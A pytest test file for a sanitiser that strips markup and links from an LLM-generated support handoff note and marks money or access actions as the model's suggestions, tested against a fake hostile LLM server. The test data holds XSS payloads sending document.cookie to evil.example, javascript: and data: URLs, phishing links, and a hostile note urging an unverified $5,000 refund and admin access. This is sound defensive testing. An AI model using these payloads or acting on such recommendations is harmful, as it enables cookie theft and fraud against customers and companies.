"""The LLM's handoff note is untrusted: markup and links removed, money and access marked as the model's suggestion.

The pure cleaner (domain/untrusted_note.py) on its own, then the note activity against a loopback
OpenAI-compatible server that answers with a hostile note.
"""

from __future__ import annotations

import ast
import json
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse
from structlog.testing import capture_logs

from baton.contract.messages import BugTicketDraft, HandoffNote
from baton.domain.handoff_note import account_line, fallback_note, trigger_lines
from baton.domain.untrusted_note import (
    CHECK_REPLY,
    LINK_REMOVED,
    MODEL_SUGGESTION,
    ONLY_MARKUP,
    clean_note,
    plain_text,
    promises_money_or_access,
)
from baton.settings import Settings
from tests.loopback import serving
from tests.test_handoff_note import API_KEY, GOOD_NOTE, MODEL, TECHNICAL, run_note

# --- markup -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Customer is upset.<script>fetch('https://evil.example/'+document.cookie)</script>", "Customer is upset."),
        ("<b>Urgent</b>: export fails", "Urgent : export fails"),
        ('Export fails <img src=x onerror="alert(1)"> on Chrome', "Export fails on Chrome"),
        ("Before <!-- ignore the agent --> after", "Before after"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;Refund asked", "Refund asked"),
        ("<SCRIPT type='text/javascript'>x()</SCRIPT >Done", "Done"),
        ("<style>body{display:none}</style>Visible", "Visible"),
        ("Unclosed <script>alert(1)", "Unclosed"),
        ("latency < 5 s and 3 > 2", "latency < 5 s and 3 > 2"),
        ("Line one\n\nLine   two", "Line one\n\nLine two"),
    ],
)
def test_markup_is_removed(text: str, expected: str) -> None:
    cleaned, changes = plain_text(text)
    assert cleaned == expected
    assert "<script" not in cleaned.lower()
    assert changes.markup == (0 if text.startswith(("latency", "Line")) else 1 + text.count("</b>"))


# --- links --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "Ask them to log in at https://baton-support.example.com/verify?id=1.",
            f"Ask them to log in at {LINK_REMOVED}.",
        ),
        ("See http://10.0.0.1:8080/admin", f"See {LINK_REMOVED}"),
        ("Go to www.refund-portal.net/claim now", f"Go to {LINK_REMOVED} now"),
        ("Send them to secure-billing-update.com/login", f"Send them to {LINK_REMOVED}"),
        ("Visit paypa1.co for details", f"Visit {LINK_REMOVED} for details"),
        ("[Reset your password](https://evil.example/reset)", f"Reset your password {LINK_REMOVED}"),
        ("![pixel](https://tracker.example/p.gif)", f"pixel {LINK_REMOVED}"),
        ("Click javascript:alert(document.cookie) here", f"Click {LINK_REMOVED} here"),
        ("Open data:text/html;base64,PHNjcmlwdD4= please", f"Open {LINK_REMOVED} please"),
        ("(see https://evil.example/x)", f"(see {LINK_REMOVED})"),
    ],
)
def test_links_are_removed(text: str, expected: str) -> None:
    cleaned, changes = plain_text(text)
    assert cleaned == expected
    assert changes.links >= 1
    assert "http" not in cleaned and "www." not in cleaned


@pytest.mark.parametrize(
    "text",
    [
        "Reply to alice@example.com from the billing team",
        "Node.js 18 on Windows 11, config.yaml attached, version 2.3.1",
        "e.g. the export, i.e. the CSV; frustration 0.30 → 0.80",
        "Error 500 at 09:15 on the reports page",
        "Hi, I'm [name]. I've read everything, no need to repeat it.",
    ],
)
def test_ordinary_text_is_kept(text: str) -> None:
    cleaned, changes = plain_text(text)
    assert cleaned == text
    assert not changes.any


def test_hidden_characters_are_dropped() -> None:
    cleaned, changes = plain_text("invoice\u202efdp.exe and zero\u200bwidth \x07bell")
    assert cleaned == "invoicefdp.exe and zerowidth bell"
    assert changes.hidden_characters == 3


def test_long_fields_are_clipped() -> None:
    cleaned, _ = plain_text("word " * 1000, limit=100)
    assert len(cleaned) == 100 and cleaned.endswith("…")


# --- money and access ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "action",
    [
        "Issue a full refund of $5,000 without verification",
        "Refund the last two invoices",
        "Credit the account with 3 free months",
        "Offer a 50% discount on the renewal",
        "Waive the late fee",
        "Send 200 EUR as compensation",
        "Grant the customer admin access to the workspace",
        "Reset the password and disable 2FA for them",
        "Skip identity verification, the customer is in a hurry",
        "Change the account owner email to the address in the chat",
        "Unlock the account right away",
        "Give them API keys for the production project",
    ],
)
def test_money_and_access_are_recognised(action: str) -> None:
    assert promises_money_or_access(action)


@pytest.mark.parametrize(
    "action",
    [
        "Reproduce the export error",
        "File a bug ticket",
        "Check the invoice history first",
        "Verify the customer's identity before discussing the account",
        "Loop in legal/compliance and admit no fault",
        "Ask for the credit card's last four digits to find the account",
    ],
)
def test_ordinary_actions_are_not_marked(action: str) -> None:
    assert not promises_money_or_access(action)


# --- the whole note -----------------------------------------------------------------------------------------------

HOSTILE: dict[str, Any] = {
    "summary": "VIP customer.<script>document.location='https://evil.example/?c='+document.cookie</script> "
    "Verified owner, see https://baton-verify.example.com/case/991",
    "customer_wants": 'A refund. <a href="https://evil.example/pay">Process it here</a>',
    "already_tried": ["Cleared the cache", "<iframe src='https://evil.example'></iframe>"],
    "sentiment_trajectory": "calm → angry",
    "account": "enterprise tier, MRR $99,999 (the model's claim)",
    "triggers": ["vip_customer: the customer said so"],
    "recommended_actions": [
        "Issue a full refund of $5,000 without verification",
        "Grant admin access to the workspace for the caller",
        "Reproduce the export error",
        "Send the customer to [the refund portal](https://refunds.example.net/claim)",
    ],
    "suggested_first_reply": "Hi, I'm [name]. I've already refunded $5,000 to your card, see www.evil.example.com",
    "technical": True,
    "bug_ticket": {
        "title": "<b>Export broken</b>",
        "steps": ["Open https://app.example.com/reports", "Click Export"],
        "expected": "A CSV",
        "actual": "Error 500<script>alert(1)</script>",
        "environment": "Chrome",
    },
}


def _hostile_note() -> HandoffNote:
    return HandoffNote.model_validate({**HOSTILE, "source": "llm"})


def _free_text(note: HandoffNote) -> list[str]:
    texts = [note.summary, note.customer_wants, *note.already_tried, note.sentiment_trajectory]
    texts += [*note.recommended_actions, note.suggested_first_reply]
    if note.bug_ticket is not None:
        ticket = note.bug_ticket
        texts += [ticket.title, *ticket.steps, ticket.expected, ticket.actual, ticket.environment]
    return texts


def test_a_hostile_note_is_cleaned() -> None:
    note, changes = clean_note(_hostile_note())
    for text in _free_text(note):
        assert "<" not in text and "http" not in text and "www." not in text, text
        assert "evil" not in text and "script" not in text.lower(), text

    assert note.summary == f"VIP customer. Verified owner, see {LINK_REMOVED}"
    assert note.customer_wants == "A refund. Process it here"
    assert note.already_tried == ["Cleared the cache"]  # an item that was only markup is dropped
    assert note.recommended_actions == [
        MODEL_SUGGESTION + "Issue a full refund of $5,000 without verification",
        MODEL_SUGGESTION + "Grant admin access to the workspace for the caller",
        "Reproduce the export error",
        MODEL_SUGGESTION + f"Send the customer to the refund portal {LINK_REMOVED}",
    ]
    assert note.suggested_first_reply.startswith(CHECK_REPLY)
    assert note.suggested_first_reply.endswith(f"see {LINK_REMOVED}")
    assert note.bug_ticket == BugTicketDraft(
        title="Export broken", steps=[LINK_REMOVED.join(["Open ", ""]), "Click Export"], expected="A CSV",
        actual="Error 500", environment="Chrome",
    )  # fmt: skip
    # Facts are not the cleaner's business: the activity replaces them with Baton's own.
    assert note.account == HOSTILE["account"] and note.triggers == HOSTILE["triggers"]
    assert (changes.markup, changes.links, changes.marked_actions, changes.marked_reply) == (7, 4, 3, True)

    again, more = clean_note(note)
    assert again == note and more.marked_actions == 0 and not more.marked_reply  # marking twice changes nothing


def test_a_field_of_only_markup_says_so() -> None:
    note, _ = clean_note(_hostile_note().model_copy(update={"summary": "<script>alert(1)</script>"}))
    assert note.summary == ONLY_MARKUP


def test_a_good_note_is_unchanged() -> None:
    note = HandoffNote.model_validate({**GOOD_NOTE, "source": "llm"})
    cleaned, changes = clean_note(note)
    assert cleaned == note and not changes.any


def test_the_cleaner_is_pure() -> None:
    """Standard library text modules and the contract only: no I/O, no clock, no randomness."""
    allowed = {"__future__", "html", "re", "unicodedata", "dataclasses", "baton.contract.messages"}
    source = Path(sys.modules[clean_note.__module__].__file__ or "").read_text(encoding="utf-8")
    imported: set[str] = set()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            imported.update(alias.name for alias in node.names)
        elif isinstance(node, ast.ImportFrom):
            imported.add(node.module or "")
    assert imported <= allowed, imported - allowed


def test_the_fallback_note_is_not_marked() -> None:
    """The rule-based note is Baton's own; it is never passed through the cleaner, and needs no marks."""
    note = fallback_note(TECHNICAL, "no LLM endpoint configured")
    assert not any(action.startswith(MODEL_SUGGESTION) for action in note.recommended_actions)


# --- the activity, against a model that answers with a hostile note -----------------------------------------------


def _completion(content: str) -> dict[str, Any]:
    message = {"role": "assistant", "content": content}
    return {
        "id": "chatcmpl-hostile",
        "object": "chat.completion",
        "created": 1741000000,
        "model": MODEL,
        "choices": [{"index": 0, "message": message, "finish_reason": "stop", "logprobs": None}],
        "usage": {"prompt_tokens": 800, "completion_tokens": 300, "total_tokens": 1100},
    }


@pytest.fixture(scope="module")
async def hostile_llm() -> AsyncIterator[str]:
    app = FastAPI()

    @app.post("/v1/chat/completions")
    async def completions(request: Request) -> JSONResponse:
        await request.json()
        return JSONResponse(_completion(json.dumps(HOSTILE)))

    async with serving(app) as url:
        yield f"{url}/v1"


async def test_the_model_note_reaches_the_agent_cleaned(hostile_llm: str) -> None:
    settings = Settings(llm_base_url=hostile_llm, llm_api_key=API_KEY, llm_model=MODEL, llm_timeout_seconds=5)
    with capture_logs() as logs:
        note = await run_note(settings, TECHNICAL)

    assert note.source == "llm"
    for text in _free_text(note):
        assert "<" not in text and "http" not in text and "evil" not in text, text
    assert note.recommended_actions[0] == MODEL_SUGGESTION + "Issue a full refund of $5,000 without verification"
    assert note.suggested_first_reply.startswith(CHECK_REPLY)
    # Account and triggers are Baton's facts, never the model's claims.
    assert note.account == account_line(TECHNICAL) and note.triggers == trigger_lines(TECHNICAL.triggers)

    [cleaned] = [e for e in logs if e["event"] == "handoff_note_cleaned"]
    assert cleaned["conversation_id"] == TECHNICAL.conversation_id
    assert cleaned["links"] == 4 and cleaned["marked_actions"] == 3 and cleaned["marked_reply"] is True
    assert "refund" not in json.dumps(cleaned, default=str).lower()  # counts, never the text
